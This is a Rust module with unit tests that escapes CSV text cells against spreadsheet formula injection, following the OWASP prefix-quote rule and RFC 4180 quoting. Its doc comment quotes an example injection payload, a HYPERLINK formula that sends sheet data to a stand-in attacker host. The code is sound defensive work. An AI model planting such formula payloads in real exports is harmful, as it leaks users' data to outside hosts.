//! Text cells of CSV answers, with spreadsheet formulas neutralised.
//!
//! Why it exists: CSV downloads are opened in Excel, LibreOffice or Google Sheets, which
//! run a cell that starts with `=`, `+`, `-` or `@` (some also after a tab or carriage
//! return) as a formula: a topic named `=HYPERLINK("https://evil.example/?"&A1, "open")`
//! would become a live link that sends the sheet's data away. Every text cell a CSV
//! writer emits (labels, names, words: anything a user or a corpus supplied) goes
//! through [`csv_text_cell`], which applies OWASP's rule for CSV injection: such a cell
//! is prefixed with a single quote `'`, then quoted as RFC 4180 requires. Numbers the
//! server writes itself (frequencies, a negative coherence or log-likelihood such as
//! `-7.4`) are not text cells and are written as they are.

use std::borrow::Cow;

/// The first characters that make a spreadsheet read a cell as a formula (OWASP).
const FORMULA_STARTS: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];

/// One text cell: `'` before a cell that starts like a formula, then double quotes
/// around a cell holding a comma, a double quote or a line break (inner quotes doubled).
pub fn csv_text_cell(s: &str) -> Cow<'_, str> {
    let cell: Cow<'_, str> = if s.starts_with(FORMULA_STARTS) { Cow::Owned(format!("'{s}")) } else { Cow::Borrowed(s) };
    if cell.contains([',', '"', '\n', '\r']) {
        Cow::Owned(format!("\"{}\"", cell.replace('"', "\"\"")))
    } else {
        cell
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn formulas_are_neutralised_and_cells_quoted() {
        assert_eq!(csv_text_cell("games"), "games");
        assert_eq!(csv_text_cell(""), "");
        assert_eq!(csv_text_cell("=1+2"), "'=1+2");
        assert_eq!(csv_text_cell("+1"), "'+1");
        assert_eq!(csv_text_cell("-7.4"), "'-7.4");
        assert_eq!(csv_text_cell("@SUM(A1)"), "'@SUM(A1)");
        assert_eq!(csv_text_cell("\tx"), "'\tx");
        assert_eq!(csv_text_cell("\rx"), "\"'\rx\"");
        assert_eq!(csv_text_cell(r#"=HYPERLINK("http://x","y")"#), r#""'=HYPERLINK(""http://x"",""y"")""#);
        assert_eq!(csv_text_cell("a,b"), "\"a,b\"");
        assert_eq!(csv_text_cell("two\nlines"), "\"two\nlines\"");
        // Only the first character counts.
        assert_eq!(csv_text_cell("a=b"), "a=b");
    }
}
